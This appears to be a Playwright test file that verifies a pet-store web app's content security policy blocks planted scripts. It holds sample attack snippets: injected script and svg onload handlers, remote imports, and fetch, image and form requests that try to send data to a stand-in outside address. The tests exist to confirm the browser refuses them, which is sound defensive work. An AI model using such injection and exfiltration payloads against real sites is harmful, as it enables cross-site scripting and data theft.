// What the browser refuses because of the page's content security policy (`tools/build/headers.ts`).
import { expect, type Page } from 'playwright/test';
import { APP_PORT } from './setup/addresses.ts';
import { openRows, test } from './setup/journey.ts';
import { everyBrowser } from './setup/journey-browser.ts';

/** An address that is neither the app's nor the service's. */
const ELSEWHERE = 'http://127.0.0.1:9/';

/** What a script in the page may try, by the directive that blocks it. */
const ATTACKS = {
  'require-trusted-types-for': `document.head.append(
    Object.assign(document.createElement('script'), { text: 'document.title = "taken"' }));`,
  'trusted-types': `trustedTypes.createPolicy('default', {});`,
  'script-src-elem': `import('${ELSEWHERE}x.js').catch(() => 0);`,
  'connect-src': `fetch('${ELSEWHERE}').catch(() => 0);`,
  'img-src': `new Image().src = '${ELSEWHERE}?key';`,
  'form-action': `const form = document.createElement('form');
    form.action = '${ELSEWHERE}';
    document.body.append(form);
    form.submit();`,
};

/** Runs code as one of the app's scripts: `page.evaluate` alone would bypass the policy. */
async function runInApp(page: Page, code: string, file: string): Promise<void> {
  // Some browsers throw what they block.
  const body = `try { ${code} } catch {}`;
  await page.route(file, (route) => route.fulfill({ contentType: 'text/javascript', body }));
  await page.evaluate(`import('${file}')`);
}

test(
  'scripts in the page cannot create code, or send anything elsewhere',
  everyBrowser,
  async ({ page, complaints }) => {
    await openRows(page);
    for (const [directive, code] of Object.entries(ATTACKS)) {
      await runInApp(page, code, `/assets/planted-${directive}.js`);
      await expect.poll(() => complaints.join('\n')).toContain(`blocked by ${directive}:`);
      complaints.splice(0);
    }
    // Not `toHaveTitle`, which waits for the navigation of the form.
    expect(await page.evaluate(() => document.title)).toBe('Pets – Staging – Pet Store');
  },
);

test(
  'scripts and styles inserted into the HTML do nothing',
  everyBrowser,
  async ({ page, complaints }) => {
    await page.route('**/pets', async (route) => {
      const response = await route.fetch();
      const planted = `<script>planted = 1</script><style>h1 { display: none }</style>
      <svg onload="planted = 1" style="width: 9px"></svg>`;
      const body = (await response.text()).replace('<noscript>', `${planted}<noscript>`);
      await route.fulfill({ response, body });
    });
    await page.goto('/pets');
    await expect(page.getByRole('heading', { name: 'Enter your API key' })).toBeVisible();
    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
    for (const part of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr'])
      await expect.poll(() => complaints).toContain(`blocked by ${part}: inline`);
    complaints.splice(0);
  },
);

test('no other page can show the app in a frame', everyBrowser, async ({ page, complaints }) => {
  await page.setContent(`<iframe src="http://127.0.0.1:${APP_PORT}/"></iframe>`);
  await expect.poll(() => complaints.join('\n')).toContain("frame-ancestors 'none'");
  await expect(page.frameLocator('iframe').getByText('Pet Store')).toHaveCount(0);
  complaints.splice(0);
});
